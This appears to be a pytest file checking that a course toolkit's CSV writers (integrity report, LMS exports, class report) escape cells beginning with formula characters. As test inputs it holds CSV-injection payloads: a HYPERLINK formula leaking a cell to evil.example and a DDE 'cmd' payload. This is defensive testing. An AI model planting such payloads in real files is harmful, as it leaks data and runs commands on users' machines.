"""Every CSV the kit writes keeps a spreadsheet formula a student planted as text.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return) is
a formula to Excel, LibreOffice and Google Sheets; OWASP's advice on CSV injection is a
leading ``'``. `puzzlekit.course.csv_cells.inert` does that for every writer: the
integrity report (an edited locked cell's line, a student's id), the LMS exports (a
name), the class report (a mistake's name as a graded notebook gave it). Each file is
written by the kit's own writer and read back with ``csv.reader``.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import nbformat
import pytest

from puzzlekit.course.csv_cells import inert, inert_rows

REPO = Path(__file__).resolve().parents[2]
A2 = "02-uninformed-search"
PLANTED = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [PLANTED, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                  "\uff1d1+1", "-cmd|' /C calc'!A0"])
def test_a_cell_that_starts_like_a_formula_gets_a_quote(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", ["", "ann", "7.25", "-0.5", "+3", "-1e-3", "0",
                                  "    Points Possible", "a=1", "O'Neil, Jr"])
def test_other_cells_and_plain_numbers_stay_as_they_are(text):
    assert inert(text) == text


def test_rows_and_values_of_any_kind():
    assert inert_rows([["=1", 2, None, -1.5]]) == [["'=1", "2", "", "-1.5"]]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def starts_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()


def test_the_integrity_report_keeps_an_edited_locked_cells_formula_as_text(tmp_path):
    from puzzlekit.course.integrity import report, write_csv
    root = tmp_path / "course"
    shutil.copytree(REPO / "notebooks" / "source", root / "source")
    shutil.copy(REPO / "notebooks" / "nbgrader_config.py", root / "nbgrader_config.py")
    nb = nbformat.read(root / "source" / A2 / f"{A2}.ipynb", as_version=4)
    locked = next(c for c in nb.cells if c.cell_type == "code"
                  and c.metadata.get("nbgrader", {}).get("grade"))
    locked.source = PLANTED + "\n" + locked.source
    folder = root / "submitted" / "@mallory" / A2       # an id a student may choose
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{A2}.ipynb")
    out = io.StringIO()
    write_csv(report(root, A2), out)
    rows = read_back(out.getvalue())
    edited = [r for r in rows[1:] if r[4].startswith("edited-locked-cell")]
    assert edited and edited[0][0] == "'@mallory" and edited[0][5] == "'" + PLANTED
    starts_no_formula(rows)


def test_the_lms_exports_keep_a_planted_name_as_text():
    from puzzlekit.course import lms_export as lms
    table = lms.MarksTable(["a1"], {"a1": 10.0}, [
        lms.StudentMarks("=cmd", PLANTED, "@x", "+1@evil.example", "-1", {"a1": 7.25}),
        lms.StudentMarks("bo", "Bo", "Ek", "bo@uni.example", "", {"a1": None})])
    for rows, quote_all, lms_id in ((lms.wide_rows(table), False, False),
                                    (lms.canvas_rows(table), False, True),
                                    (lms.moodle_rows(table), False, True),
                                    (lms.blackboard_rows(table), True, True)):
        back = read_back(lms.csv_text(rows, quote_all))
        assert len(back) == len(rows)
        starts_no_formula(back)
        flat = [cell for row in back for cell in row]
        assert "7.25" in flat and ("-1" in flat) == lms_id     # numbers stay numbers
        assert any(cell.startswith("'=") or cell.startswith("'@") for cell in flat)


def test_the_class_report_keeps_a_mistakes_formula_as_text():
    from puzzlekit.course.class_report.data import (CellResult, ClassData, Exercise,
                                                     MistakeSeen, Submission)
    from puzzlekit.course.class_report.tally import csv_text
    e = Exercise("nb", "t1", 2.0)
    sub = Submission("bo")
    sub.cells[e.key] = CellResult(0.0, 2.0, "failed", (MistakeSeen(PLANTED, "s", {}),))
    back = read_back(csv_text(ClassData("c", "a1", None, ["bo"], [e], {"bo": sub}, [])))
    assert back[1][:2] == ["t1", "'" + PLANTED]
    starts_no_formula(back)
